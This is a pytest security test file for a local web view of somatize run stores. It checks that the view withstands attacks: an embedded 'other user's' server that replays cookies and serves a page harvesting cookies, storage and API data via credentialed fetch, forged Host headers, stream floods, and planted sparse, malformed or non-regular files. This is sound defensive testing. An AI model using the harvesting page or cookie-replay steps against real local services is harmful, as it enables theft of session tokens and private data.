"""The live view, attacked (issue 39): by another local user's server, by a web page, and by
whoever may write the store's folder.

Real ``python -m somatize view`` processes over real store folders; a real second server,
run as ``nobody``, on another loopback port, visited by the same Chromium profile; real
planted folders, sparse files and damaged records. The page is waited on for facts it shows,
never for a time; the few bounds on "answered within N s" are generous liveness facts.
"""

from __future__ import annotations

import http.client
import json
import os
import re
import socket
import threading
import time
import urllib.parse
import zlib
from pathlib import Path

import pytest
from conftest import SETPRIV, env_with_tests
from test_view import base, browser, view  # noqa: F401 - `browser` is a fixture

from somatize import FolderStore, Recorder
from somatize.facts import fact
from somatize.store_file import header, record_bytes

expect = pytest.importorskip("playwright.sync_api").expect

pytestmark = pytest.mark.timeout(180)


# -- helpers ------------------------------------------------------------------------------


def token_of(address: str) -> str:
    return address.split("token=")[1] if "token=" in address else ""


def ask(
    address: str, path: str, *, host: str | None = None, token: str | None = None, stream: bool = False
) -> tuple[int, bytes]:
    """One GET to the view at ``address``, with ``host`` as its Host header if given, and the
    view's token (or ``token``); a stream's status only."""
    parts = urllib.parse.urlsplit(address)
    connection = http.client.HTTPConnection(parts.hostname, parts.port, timeout=30)
    try:
        headers = {}
        given = token_of(address) if token is None else token
        if given:
            headers["Authorization"] = "token " + given
        connection.putrequest("GET", path, skip_host=host is not None)
        if host is not None:
            connection.putheader("Host", host)
        for key, value in headers.items():
            connection.putheader(key, value)
        connection.endheaders()
        answer = connection.getresponse()
        return answer.status, b"" if stream and answer.status == 200 else answer.read()
    finally:
        connection.close()


def recorded(folder: Path, run: str, forwards: int = 1) -> FolderStore:
    store = FolderStore(folder)
    rec = Recorder(store, run=run, summarising=["loss"])
    for n in range(forwards):
        rec(fact("ran", node="step", took_us=300, host="gpu-box"))
        rec(fact("left", host="gpu-box", took_us=400, worked_us=300))
        rec(fact("loss", value=1.0 / (n + 1)))
        rec(fact("finished", took_us=700))
    return store


class Stream:
    """A live stream of the view, read on a thread: ``opened`` once it answers, ``changed``
    at its first ``changed``."""

    def __init__(self, address: str, subject: str) -> None:
        parts = urllib.parse.urlsplit(address)
        self.connection = http.client.HTTPConnection(parts.hostname, parts.port, timeout=60)
        self.connection.request(
            "GET",
            "/api/events?subject=" + urllib.parse.quote(subject),
            headers={"Authorization": "token " + token_of(address)},
        )
        self.status = 0
        self.opened, self.changed = threading.Event(), threading.Event()
        self.at: float | None = None
        self.thread = threading.Thread(target=self._read, daemon=True)
        self.thread.start()

    def _read(self) -> None:
        try:
            answer = self.connection.getresponse()
            self.status = answer.status
            if answer.status == 200:
                answer.readline()  # ": open"
            self.opened.set()
            while answer.status == 200:
                line = answer.readline()
                if not line:
                    return
                if line == b"event: changed\n":
                    self.at = time.monotonic()
                    self.changed.set()
                    return
        except OSError:
            return
        finally:
            self.opened.set()

    def close(self) -> None:
        sock = self.connection.sock
        if sock is not None:
            try:
                sock.shutdown(socket.SHUT_RDWR)  # its reader sees the end, and stops
            except OSError:
                pass
        self.thread.join(10)
        self.connection.close()


def memory(pid: int) -> dict[str, int]:
    """The process's resident memory now and at its peak (KiB)."""
    found = {}
    for line in Path(f"/proc/{pid}/status").read_text().splitlines():
        key, _, value = line.partition(":")
        if key in ("VmRSS", "VmHWM"):
            found[key] = int(value.split()[0])
    return found


def descriptors(pid: int) -> int:
    return len(os.listdir(f"/proc/{pid}/fd"))


# -- another local user's server, and the user's other views ---------------------------------

# Another local user's web server on another loopback port: it logs what each request
# brings, replays any cookie against the view, and its page tries to read the view.
OTHER_SERVER = r'''if True:
    import http.server, json, sys, urllib.request
    view = sys.argv[1]
    PAGE = """<!doctype html><title>other</title><script>
    (async () => {
      const out = {cookie: document.cookie, stored: Object.keys(localStorage).map((k) => localStorage.getItem(k))};
      try { const r = await fetch(VIEW + "api/runs", {credentials: "include"}); out.status = r.status; out.body = await r.text(); }
      catch (e) { out.error = String(e); }
      await fetch("/report", {method: "POST", body: JSON.stringify(out)});
      document.title = "reported";
    })();
    </script>""".replace("VIEW", json.dumps(view))

    class Handler(http.server.BaseHTTPRequestHandler):
        def log_message(self, *args):
            pass

        def say(self, **more):
            print(json.dumps({"path": self.path, "headers": dict(self.headers), **more}), flush=True)

        def do_GET(self):
            replayed = ""
            if self.headers.get("Cookie"):  # what a server does with a cookie it was sent
                asked = urllib.request.Request(view + "api/runs", headers={"Cookie": self.headers["Cookie"]})
                try:
                    replayed = urllib.request.urlopen(asked, timeout=10).read().decode()
                except Exception as exc:
                    replayed = repr(exc)
            self.say(replayed=replayed)
            body = PAGE.encode()
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        def do_POST(self):
            body = self.rfile.read(int(self.headers.get("Content-Length", 0)))
            self.say(report=json.loads(body))
            self.send_response(204)
            self.end_headers()

    server = http.server.HTTPServer(("127.0.0.1", 0), Handler)
    print("ready http://127.0.0.1:%d/" % server.server_port, flush=True)
    server.serve_forever()
'''


def test_another_users_server_on_another_port_gets_nothing_of_the_view(processes, browser, python_for_nobody, tmp_path):  # noqa: F811
    recorded(tmp_path / "store", "secret-run")
    _, address = view(processes, tmp_path / "store")
    token = token_of(address)
    context = browser.new_context()
    page = context.new_page()
    page.goto(address)
    expect(page.locator("#runs a", has_text="secret-run")).to_be_visible()

    other = processes([*SETPRIV, python_for_nobody, "-c", OTHER_SERVER, base(address) + "/"], env=env_with_tests())
    visit = context.new_page()  # the same browser profile visits the other user's page
    visit.goto(other.endpoint)
    expect(visit).to_have_title("reported", timeout=20_000)
    said = []
    while not any("report" in entry for entry in said):
        line = other.line(20)
        assert line, f"the other server said nothing more: {said}"
        said.append(json.loads(line))
    told = json.dumps(said)
    assert token not in told  # no header, no cookie, no stored value brought the token there
    assert all(not entry["headers"].get("Cookie") for entry in said)
    assert "secret-run" not in told  # neither its replays nor its page read the view
    report = next(entry["report"] for entry in said if "report" in entry)
    assert report["cookie"] == "" and report["stored"] == []
    assert report.get("status") != 200
    assert context.cookies() == []
    # and the view's own page still works
    page.reload()
    expect(page.locator("#runs a", has_text="secret-run")).to_be_visible()


def test_two_views_of_one_user_both_keep_working(processes, browser, tmp_path):  # noqa: F811
    recorded(tmp_path / "a", "alpha")
    recorded(tmp_path / "b", "beta")
    _, first = view(processes, tmp_path / "a")
    _, second = view(processes, tmp_path / "b")
    context = browser.new_context()
    one, two = context.new_page(), context.new_page()
    one.goto(first)
    expect(one.locator("#runs a", has_text="alpha")).to_be_visible()
    two.goto(second)
    expect(two.locator("#runs a", has_text="beta")).to_be_visible()
    for page, address, run in ((one, first, "alpha"), (two, second, "beta")):
        page.reload()  # each still opens, after the other was opened
        expect(page.locator("#runs a", has_text=run)).to_be_visible()
        later = context.new_page()  # and so does a new tab of it, by its address without the token
        later.goto(base(address) + "/#/runs")
        expect(later.locator("#runs a", has_text=run)).to_be_visible()
        expect(later.locator("#title")).to_have_text("Runs")


@pytest.mark.parametrize("insecure", [False, True], ids=["token", "insecure"])
def test_a_request_under_another_name_is_refused(processes, tmp_path, insecure):
    recorded(tmp_path / "store", "secret-run")
    _, address = view(processes, tmp_path / "store", *(["--insecure"] if insecure else []))
    port = urllib.parse.urlsplit(address).port
    for host in (
        f"rebind.test:{port}",
        "rebind.test",
        f"127.0.0.1:{port + 1 if port < 65535 else 1}",
        f"127.0.0.1.rebind.test:{port}",
        "",
    ):
        for path in ("/", "/static/app.js", "/api/runs", "/api/run/secret-run", "/api/events?subject=runs", "/nothing"):
            status, body = ask(address, path, host=host, stream=True)
            assert status in (403, 421), (host, path, status)
            assert b"secret-run" not in body
    for host in (f"127.0.0.1:{port}", f"localhost:{port}"):  # its own address, by IP or name
        status, body = ask(address, "/api/runs", host=host)
        assert status == 200 and b"secret-run" in body, host


# -- a writer of the store's folder -----------------------------------------------------------


def test_sixteen_streams_and_thirty_thousand_planted_folders_still_show_a_change(processes, browser, tmp_path):  # noqa: F811
    from optuna.distributions import FloatDistribution

    from somatize import Study

    folder = tmp_path / "store"
    store = recorded(folder, "r")
    Study(
        store,
        "tune",
        objective="study_objectives:quadratic",
        space={"x": FloatDistribution(-5, 5)},
        trials=40_000,
        sampler="random",
    )
    trials = folder / "tune" / "trial"
    trials.mkdir(parents=True, exist_ok=True)
    for n in range(30_000):  # what a writer of the folder may plant: empty trial folders
        (trials / f"{n:06d}").mkdir()
    _, address = view(processes, folder)
    page = browser.new_page()
    page.goto(address)
    page.goto(base(address) + "/#/study/tune")
    expect(page.locator("#title")).to_have_text("Study tune", timeout=30_000)
    expect(page.locator("#live.on")).to_be_visible(timeout=30_000)
    streams = [Stream(address, "study:tune") for _ in range(15)]  # with the page's own: 16
    try:
        for stream in streams:
            assert stream.opened.wait(30) and stream.status == 200
        started = time.monotonic()
        status, body = ask(address, "/api/runs")
        answered = time.monotonic() - started
        assert status == 200 and b'"run": "r"' in body
        assert answered < 4.0, f"/api/runs took {answered:.1f} s with 16 streams open"

        # a trial finishes in one of the planted folders, as its runner writes it
        changed = time.monotonic()
        store.put(
            "tune/trial/012345.000",
            {
                "trial": "12345",
                "attempt": "0",
                "config": '{"x": 1.5}',
                "state": "done",
                "score": "2.25",
                "took_us": "10",
                "runner": "me",
            },
        )
        for stream in streams:
            assert stream.changed.wait(30), "a stream was never told of the change"
        slowest = max(stream.at for stream in streams) - changed
        assert slowest < 4.0, f"the change showed after {slowest:.1f} s (the page promises a second)"
        expect(page.locator("#note")).to_contain_text("1 done", timeout=30_000)
    finally:
        for stream in streams:
            stream.close()


def test_the_view_serves_a_bounded_number_of_streams(processes, tmp_path):
    import somatize.view.app

    STREAMS = getattr(somatize.view.app, "STREAMS", 32)  # the bound the view names

    recorded(tmp_path / "store", "r")
    _, address = view(processes, tmp_path / "store")
    streams = [Stream(address, "runs") for _ in range(STREAMS)]
    try:
        for stream in streams:
            assert stream.opened.wait(30) and stream.status == 200
        status, body = ask(address, "/api/events?subject=runs", stream=True)
        assert status == 429 and b"close a tab" in body
        assert ask(address, "/api/runs")[0] == 200  # the rest of the view answers
        streams.pop().close()
        until = time.monotonic() + 20
        while ask(address, "/api/events?subject=runs", stream=True)[0] != 200:  # the freed one, taken again
            assert time.monotonic() < until, "a closed stream's place was never freed"
            time.sleep(0.2)
    finally:
        for stream in streams:
            stream.close()


def sparse_entry(path: Path, record: dict[str, str], blob_len: int) -> None:
    """A store entry whose blob is ``blob_len`` bytes long and holds nothing on disk."""
    data = record_bytes("x", record)
    head = header(len(data), blob_len)
    head += b"%08x\n" % zlib.crc32(data, zlib.crc32(head))
    with open(path, "wb") as file:
        file.write(head + data)
        file.truncate(len(head) + len(data) + blob_len)


PAGES = (
    "/api/runs",
    "/api/run/r",
    "/api/run/r/nodes",
    "/api/run/r/nodes?last=1000",
    "/api/machines",
    "/api/machines?run=r",
)


def test_a_huge_sparse_blob_neither_swells_nor_fails_the_view(processes, tmp_path):
    folder = tmp_path / "store"
    store = recorded(folder, "r", forwards=2)
    sparse_entry(folder / "run" / "r" / "1.rec", store.record("run/r/1"), 384 << 20)
    assert os.stat(folder / "run" / "r" / "1.rec").st_blocks * 512 < 1 << 20  # sparse: nothing on disk
    process, address = view(processes, folder)
    assert ask(address, "/api/runs")[0] == 200
    before = memory(process.pid)
    for _ in range(3):
        for path in (*PAGES, "/api/run/r/facts/0", "/api/run/r/facts/1"):
            status, body = ask(address, path)
            assert status == 200, (path, status, body[:200])
    after = memory(process.pid)
    grew = (after["VmHWM"] - before["VmHWM"]) / 1024
    assert grew < 128, f"the view's peak memory grew by {grew:.0f} MiB"
    assert json.loads(ask(address, "/api/run/r/facts/1")[1]) == []  # not read: shown as none
    assert json.loads(ask(address, "/api/run/r/facts/0")[1])  # the other forward's facts are there
    assert "1.rec holds a blob of" in process.stderr()


def test_damaged_facts_are_skipped_and_every_page_answers(processes, tmp_path):
    folder = tmp_path / "store"
    store = recorded(folder, "r", forwards=6)
    damaged = {
        1: b"[1]\n",  # a line that is not an object
        2: b"[" * 100_000 + b"]" * 100_000 + b"\n",  # nested past the recursion limit
        3: b'{"fact": "ran", "node": "step", "took_us": "\xff\xfe"}\n',  # not UTF-8
        4: b'{"fact": "ran", "node": "step", "took_us": [1]}\n',  # not text
        5: json.dumps({"fact": "ran", "node": "odd", "took_us": "\u00b2", "host": "gpu-box"}).encode() + b"\n",
    }
    for number, blob in damaged.items():
        store.put(f"run/r/{number}", store.record(f"run/r/{number}"), blob)
    process, address = view(processes, folder)
    for _ in range(2):
        for path in (*PAGES, *(f"/api/run/r/facts/{n}" for n in range(6))):
            status, body = ask(address, path)
            assert status == 200, (path, status, body[:200])
    for number in (1, 2, 3, 4):
        assert json.loads(ask(address, f"/api/run/r/facts/{number}")[1]) == []
    odd = json.loads(ask(address, "/api/run/r/facts/5")[1])  # well formed: shown as it is
    assert odd[0]["took_us"] == "\u00b2"
    nodes = {row["node"]: row for row in json.loads(ask(address, "/api/run/r/nodes")[1])}
    assert nodes["step"]["ran"] == 1 and nodes["odd"]["took_us"] == 0  # from forward 0, and the odd one
    told = process.stderr()
    for number in (1, 2, 3, 4):  # one line each, however often it was read
        assert len(re.findall(rf"/run/r/{number}\.rec holds facts", told)) == 1, told


def test_a_folder_where_a_file_belongs_leaks_no_descriptor(processes, tmp_path):
    from optuna.distributions import FloatDistribution

    from somatize import Study

    folder = tmp_path / "store"
    store = recorded(folder, "r")
    Study(
        store,
        "tune",
        objective="study_objectives:quadratic",
        space={"x": FloatDistribution(-5, 5)},
        trials=3,
        sampler="random",
    )
    store.put(
        "tune/trial/000000.000",
        {
            "trial": "0",
            "attempt": "0",
            "config": '{"x": 1.0}',
            "state": "done",
            "score": "1.0",
            "took_us": "10",
            "runner": "me",
        },
    )
    (folder / "tune" / "study.rec").unlink()
    (folder / "tune" / "study.rec").mkdir()  # a folder where the study's definition belongs
    (folder / "run" / "r" / "7.rec").mkdir()  # and where a forward's file does
    (folder / "machine").mkdir(exist_ok=True)
    (folder / "machine" / "gpu-box.rec").mkdir()  # and a machine's report
    (folder / "fifo").mkdir()
    os.mkfifo(folder / "fifo" / "study.rec")  # a FIFO there: answered at once, never waited on
    (folder / "socket").mkdir()
    listening = socket.socket(socket.AF_UNIX)
    here = os.getcwd()
    os.chdir(folder / "socket")  # (a relative name: a socket's path is short)
    try:
        listening.bind("study.rec")  # and a socket
    finally:
        os.chdir(here)
    process, address = view(processes, folder)
    pages = (
        "/api/study/tune",
        "/api/studies",
        "/api/run/r",
        "/api/run/r/nodes",
        "/api/machines",
        "/api/runs",
        "/api/study/fifo",
        "/api/study/socket",
    )
    for path in pages:
        assert ask(address, path)[0] == 200, path
    open_before = descriptors(process.pid)
    for _ in range(60):
        for path in pages:
            status, body = ask(address, path)
            assert status == 200, (path, status, body[:200])
    assert descriptors(process.pid) - open_before < 5
    study = json.loads(ask(address, "/api/study/tune")[1])
    assert study["count"] == 1 and study["trials"][0]["score"] == 1.0
    assert "study.rec is not a regular file" in process.stderr()
    listening.close()
